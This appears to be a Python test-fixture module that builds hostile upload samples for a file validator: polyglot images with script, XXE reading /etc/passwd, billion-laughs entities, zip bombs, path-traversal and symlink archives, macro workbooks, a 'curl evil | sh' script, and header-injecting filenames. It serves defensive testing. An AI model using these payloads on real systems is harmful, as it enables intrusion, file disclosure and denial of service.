"""Hostile files by name: what somebody may send in to any address that takes files."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib

PDF = b"%PDF-1.7\n1 0 obj\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 40
SCRIPT = b"<script>alert(document.domain)</script>"


def zipped(*members: tuple[str, bytes], link: str = "") -> bytes:
    """An archive of members as they are named, also where no program would name them so."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members:
            info = zipfile.ZipInfo("x")
            info.filename = name
            info.compress_type = zipfile.ZIP_DEFLATED
            if name == link:
                info.external_attr = 0o120777 << 16
            made.writestr(info, content)
    return out.getvalue()


def lying(size: int) -> bytes:
    """An archive whose list says that a small member unpacks to `size` bytes."""
    made = bytearray(zipped(("a.txt", b"x" * 50)))
    at = made.index(b"PK\x01\x02")
    made[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(made)


def workbook(**parts: bytes) -> bytes:
    """Something that calls itself an Excel workbook."""
    kinds = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    named = [(name.replace("__", "/").replace("_dot_", "."), content) for name, content in parts.items()]
    return zipped(("[Content_Types].xml", kinds), ("xl/workbook.xml", b"<workbook/>"), *named)


XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>'
BOMB = zipped(("zeros.txt", bytes(12_000_000)))

# name → the file's name, its content, and the sentence with which an attachment is refused (None: it may be attached)
HOSTILE: dict[str, tuple[str, bytes, str | None]] = {
    "program": ("report.pdf", b"MZ\x90\x00" + PDF, "This file is a program"),
    "program for Linux": ("report.txt", b"\x7fELF\x02\x01", "This file is a program"),
    "shell script": ("notes.txt", b"#!/bin/sh\ncurl evil | sh\n", "This file is a program"),
    "web page": ("notes.txt", b"<html><body>" + SCRIPT, "This is a web page"),
    "web page in capitals after blanks": ("notes.md", b"\n\n  <ScRiPt src=//evil>", "This is a web page"),
    "web page in a CSV": ("table.csv", b"a,b\n1," + SCRIPT + b"\n", "This is a web page"),
    "web page in UTF-16": ("notes.txt", "<script>x</script>".encode("utf-16"), "of a kind that is not known"),
    "drawing with script": ("map.svg", b'<svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"/>', "This is a web"),
    "drawing in XML": ("map.xml", b'<?xml version="1.0"?><s:svg xmlns:s="http://www.w3.org/2000/svg"/>', "This is a"),
    "page in XML": ("a.xml", b'<h:html xmlns:h="http://www.w3.org/1999/xhtml"><h:script>x</h:script>', "This is a"),
    "style sheet that scripts": ("a.xml", b'<?xml-stylesheet type="text/xsl" href="#x"?><a/>', "entities or a style"),
    "entity of a file": ("data.xml", XXE, "This XML file has entities"),
    "entities that grow": ("data.xml", LAUGHS, "This XML file has entities"),
    "page as a JPEG": ("photo.jpg", b"\xff\xd8\xff\xe0" + SCRIPT, "This picture also holds a web page"),
    "page as a GIF": ("photo.gif", b"GIF89a" + SCRIPT, "This picture also holds a web page"),
    "page as a PNG": ("photo.png", PNG + SCRIPT, "This picture also holds a web page"),
    "page as a WebP": ("photo.webp", b"RIFF\x10\0\0\0WEBP" + SCRIPT, "This picture also holds a web page"),
    "script as a GIF": ("photo.gif", b"GIF89a=1;alert(1);//", None),  # saved, never run: its headers see to that
    "PDF with script": ("form.pdf", PDF + b"<</S/JavaScript/JS(app.alert(1))>>", None),  # likewise
    "other PDF content": ("form.docx", PDF, "is not what its name says"),
    "old Word file": ("letter.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "Older Word, Excel"),
    "workbook with macros": ("prices.xlsx", workbook(xl__vbaProject_dot_bin=b"x"), "The file holds macros"),
    "workbook with ActiveX": ("prices.xlsx", workbook(xl__activeX__a_dot_bin=b"x"), "The file holds macros"),
    "macro workbook by name": ("prices.xlsm", workbook(), "is not what its name says"),
    "text with macros": (
        "text.odt",
        zipped(("mimetype", b"application/vnd.oasis.opendocument.text"), ("Basic/a.xml", b"")),
        "The file holds macros",
    ),
    "archive with a program": ("files.zip", zipped(("setup.exe", b"MZ")), "The archive holds a program"),
    "archive that climbs": ("files.zip", zipped(("../../etc/cron.d/x", b"x")), "would write outside its folder"),
    "archive that climbs on Windows": ("files.zip", zipped(("..\\..\\x.txt", b"x")), "would write outside its folder"),
    "archive from the root": ("files.zip", zipped(("/etc/passwd", b"x")), "would write outside its folder"),
    "archive on a drive": ("files.zip", zipped(("C:\\x.txt", b"x")), "would write outside its folder"),
    "archive with a link": ("files.zip", zipped(("a", b"/etc/passwd"), link="a"), "would write outside its folder"),
    "workbook with a link": ("a.xlsx", zipped(("xl/a", b"/etc"), link="xl/a"), "would write outside its folder"),
    "bomb": ("files.zip", BOMB, "would unpack to far more than its size"),
    "bomb by its list": ("files.zip", lying(0xFFFFFFF0), "would unpack to far more than its size"),
    "bomb as a workbook": ("a.xlsx", workbook(xl__worksheets__sheet1_dot_xml=bytes(12_000_000)), "would unpack"),
    "bomb in an archive": ("files.zip", zipped(("inner.zip", BOMB)), None),  # nothing is unpacked here
    "compressed twice": ("a.csv.gz", gzip.compress(gzip.compress(bytes(3_000_000))), "is of a kind that is not known"),
    "many members": ("files.zip", zipped(*((f"{n}.txt", b"") for n in range(10_001))), "holds too many files"),
    "broken archive": ("files.zip", b"PK\x03\x04" + bytes(40), "cannot be read"),
    "half an archive": ("files.zip", BOMB[: len(BOMB) // 2], "cannot be read"),
    "raw compressed": ("a.json", zlib.compress(b"{}" * 900), "is of a kind that is not known"),
    "zero bytes": ("notes.txt", b"a\0b", "is of a kind that is not known"),
    "deep JSON": ("data.json", b"[" * 100_000, None),  # kept as it is, read by nobody
    "nothing": ("notes.txt", b"", "The file is empty."),
}
NAMES = {  # as it came → as it is kept
    "../../etc/passwd": "passwd",
    "..\\..\\boot.ini": "boot.ini",
    "/abs/plan.pdf": "plan.pdf",
    "C:\\fakepath\\plan.pdf": "plan.pdf",
    "plan.pdf\0.exe": "plan.pdf.exe",
    'a"; filename="evil.html': "a; filename=evil.html",
    "a\r\nSet-Cookie: x=1.pdf": "aSet-Cookie x=1.pdf",
    "\u202efdp.exe": "fdp.exe",
    "zero\u200bwidth\ufeff.pdf": "zerowidth.pdf",
    "half\ud800.pdf": "half.pdf",
    "CON.pdf": "_CON.pdf",
    "lpt1": "_lpt1",
    "console.pdf": "console.pdf",
    ".htaccess": "htaccess",
    "...": "file",
    "": "file",
    "e\u0301tude.pdf": "étude.pdf",
    "x" * 300 + ".pdf": "x" * 116 + ".pdf",
    "a." + "b" * 300: "a." + "b" * 20,
    "<img src=x onerror=alert(1)>.png": "img src=x onerror=alert(1).png",
}
